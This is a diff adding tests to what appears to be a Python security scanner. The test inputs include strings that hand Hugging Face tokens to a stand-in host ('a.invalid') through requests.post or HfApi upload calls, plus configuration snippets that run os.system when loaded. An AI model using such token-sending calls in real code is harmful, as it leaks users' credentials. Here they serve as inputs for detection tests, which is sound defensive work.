@@ -135,3 +135,30 @@ def test_an_answer_read_as_a_value_under_its_own_name_does_not_fail() -> None:
     assert judged(source) == []
     (finding,) = judged("def f(given):\n    made = eval(given)\n    exec(made)\n")
     assert finding.severity is Severity.HIGH
+
+
+def test_a_configuration_that_is_python_is_loaded_by_running_it() -> None:
+    starts = "import os\nos.system('true')\n"
+    for line in ("_base_ = ['a.py']\n", "model = dict(type='FasterRCNN')\n"):
+        assert [f.severity for f in judged(line + starts)] == [Severity.HIGH]
+        assert judged(line) == []
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        "HfApi().upload_file(path_or_fileobj=get_token(), repo_id='a/b')",
+        "api = HfApi()\n    api.upload_file(path_or_fileobj=get_token())",
+        "requests.Session().post('https://a.invalid', data=get_token())",
+    ],
+)
+def test_a_key_that_is_sent_away_by_an_object_is_seen(call: str) -> None:
+    known = "import requests\nfrom huggingface_hub import HfApi, get_token\n"
+    found = judged(f"{known}def f():\n    {call}\n")
+    assert "sends a key or a private file away" in found[0].title
+
+
+def test_a_key_that_opens_the_service_is_no_secret_to_it() -> None:
+    known = "from huggingface_hub import HfApi, get_token\ndef f():\n"
+    call = "HfApi().upload_file(path_or_fileobj='x', token=get_token())\n"
+    assert judged(f"{known}    {call}") == []
